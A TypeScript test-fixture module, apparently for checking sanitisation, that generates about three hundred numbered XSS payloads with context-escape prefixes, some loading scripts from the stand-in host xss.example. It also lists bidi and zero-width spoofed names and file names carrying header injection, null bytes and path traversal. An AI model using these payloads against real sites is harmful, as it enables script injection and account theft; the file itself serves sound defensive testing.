// What somebody writes who wants a browser to run it. Every one would call alert, were it markup; all are different.

const calls = [
  "<script>alert(N)</script>",
  "<ScRiPt >alert(N)</sCrIpT>",
  "<script src=//xss.example/N.js></script>",
  "<script>/*<!--*/alert(N)//--></script>",
  "<img src=x onerror=alert(N)>",
  "<img src=x:N onerror=alert`N`//",
  "<IMG SRC=javascript:alert(N)>",
  "<img/src=`x` onerror=alert(N)>",
  "<img src=x onerror=&#97;lert(N)>",
  "<svg onload=alert(N)>",
  "<svg/onload=alert(N)//",
  "<svg><script>alert&#40;N&#41;</script></svg>",
  "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(N)><text x=0 y=20>N</text></a></svg>",
  "<svg><use href=data:image/svg+xml,<svg/onload=alert(N)>>",
  "<math><mtext><style><img title=</style><img src=x onerror=alert(N)>>",
  "<math><a xlink:href=javascript:alert(N)>N</a></math>",
  "<body onload=alert(N)>",
  "<body/onpageshow=alert(N)>",
  "<iframe src=javascript:alert(N)></iframe>",
  "<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>",
  "<object data=javascript:alert(N)></object>",
  "<embed src=javascript:alert(N)>",
  "<details open ontoggle=alert(N)>",
  "<video><source onerror=alert(N)></video>",
  "<audio src=x onerror=alert(N)>",
  "<input autofocus onfocus=alert(N)>",
  "<select autofocus onfocus=alert(N)>",
  "<textarea autofocus onfocus=alert(N)>",
  "<form action=javascript:alert(N)><button>N</button></form>",
  "<button form=bulk formaction=javascript:alert(N)>N</button>",
  "<a href=javascript:alert(N)>N</a>",
  "<a href='java\tscript:alert(N)'>N</a>",
  "<a href=data:text/html,<script>alert(N)</script>>N</a>",
  "<base href=//xss.example/N/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(N)'>",
  "<link rel=stylesheet href=//xss.example/N.css>",
  "<style>@import '//xss.example/N.css';*{color:red}</style>",
  "<div style=position:fixed;inset:0;background:url(//xss.example/N)>N</div>",
  "<template shadowrootmode=open><script>alert(N)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>",
  "<xmp><img src=x onerror=alert(N)></xmp>",
  "<plaintext onclick=alert(N)>",
  "<marquee onstart=alert(N)>N</marquee>",
  "<dialog open onclose=alert(N)>N</dialog>",
  "<div hx-get=/xss/N hx-trigger=load></div>",
  "<div data-hx-get=/xss/N data-hx-trigger=load></div>",
  "<div hx-on:click=alert(N) hx-on--load=alert(N)></div>",
  "<hx-partial hx-target=#main><script>alert(N)</script></hx-partial>",
  "{{constructor.constructor('alert(N)')()}}${alert(N)}<%= alert(N) %>",
] as const;

// Out of what a page may stand around the words.
const exits = ["", '">', "'>", "</textarea></title></style></script>", "-->]]>", "\n\ndata: "] as const;

/** Three hundred payloads, numbered. */
export const scriptPayloads: readonly string[] = exits.flatMap((exit, outer) =>
  calls.map((call, inner) => exit + call.replaceAll("N", String(outer * calls.length + inner))),
);

/** Names that show something else than what they are, and how they may be shown. */
export const falseNames: readonly (readonly [name: string, shown: string])[] = [
  ["Ana\u202egnp.exe", "Anagnp.exe"],
  ["\u202eisorG anA", "isorG anA"],
  ["\u2067Ana\u2069", "Ana"],
  ["\u200f\u200eAna\u061c", "Ana"],
  ["A\u200bn\u2060a\ufeff", "Ana"],
  ["Ana\r\nSole: aprobado", "Ana Sole: aprobado"],
  ["Ana\u2028Sole\u2029\u0085", "Ana Sole"],
  ["Ana\u001b[31m\u0007\u0008\u009b", "Ana[31m"],
  ["Ana\u0000", "Ana\uFFFD"],
  ["  Ana  ", "Ana"],
  ["👩‍👧 Ana", "👩‍👧 Ana"],
  ["نور", "نور"],
];

/** File names that want to be something else, leave their folder or their header, or flood. */
export const falseFileNames: readonly string[] = [
  '"; filename=x.html',
  "a.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
  "a\nSet-Cookie: ronda=1",
  "a%0d%0aX: y.pdf",
  "\u202efdp.exe",
  "factura.pdf\u0000.html",
  "'';filename*=UTF-8''x.html",
  "=?utf-8?B?eC5odG1s?=",
  "..%2f..%2fx",
  "x;y=z",
  'a\\"b.pdf',
  "\ud83d.pdf",
  "ñandú 🍅.pdf",
  "x".repeat(4_096),
];
